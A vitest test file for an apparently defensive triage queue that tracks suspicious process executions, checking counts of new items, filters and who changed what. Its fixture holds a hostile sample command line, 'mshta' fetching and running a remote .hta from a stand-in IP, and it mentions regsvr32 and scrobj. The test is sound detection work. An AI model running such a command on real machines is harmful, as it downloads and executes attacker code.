import { expect, test } from 'vitest'
import { pool } from '@/lib/store/pool'
import { parseDeviationRequest } from '@/lib/store/screens/deviations/filter'
import { readQueueChanges } from '@/lib/store/screens/deviations/live'
import { ingestExamples } from './ingest/example-use'
import { recompute } from './recompute/recompute'
import { itemOf, judge, withTriageExamples } from './triage-examples'

const examples = withTriageExamples()

const ALL = { kind: 'all' } as const

test('a list that is open learns of new items that match it, and of what others changed', async () => {
  const { accountId } = examples().groupResponder
  const { rows } = await pool().query<{ at: number }>('SELECT now() AS at')
  const since = { sinceUs: rows[0]?.at ?? 0, accountId }
  const changes = async (params = {}) => await readQueueChanges(ALL, parseDeviationRequest(params), since)
  const before = await changes()
  expect(before).toMatchObject({ total: 2, fresh: 0, changed: [] })

  await ingestExamples(pool(), [
    {
      host: 'ws-3.example',
      at: '2026-01-08T11:00:00Z',
      image: 'C:\\Windows\\System32\\mshta.exe',
      commandLine: 'mshta http://203.0.113.9/a.hta',
    },
  ])
  await recompute(pool())
  expect(await changes()).toMatchObject({ total: 3, fresh: 1, changed: [] })
  expect(await changes({ binary: 'regsvr32.exe' })).toMatchObject({ total: 2, fresh: 0 })

  const { id } = await itemOf('scrobj')
  await judge(examples().responder, 'scrobj', { to: 'flagged' })
  const after = await changes()
  expect(after.total).toBe(2)
  expect(after.changed).toEqual([{ id, by: 'ada' }])
  const blind = { kind: 'groups', groupIds: [-1] } as const
  expect((await readQueueChanges(blind, parseDeviationRequest({}), since)).changed).toEqual([])
  expect(after.states).toContainEqual({ value: 'flagged', count: 1 })
  const own = { ...since, accountId: examples().responder.accountId }
  expect((await readQueueChanges(ALL, parseDeviationRequest({}), own)).changed).toEqual([])
})
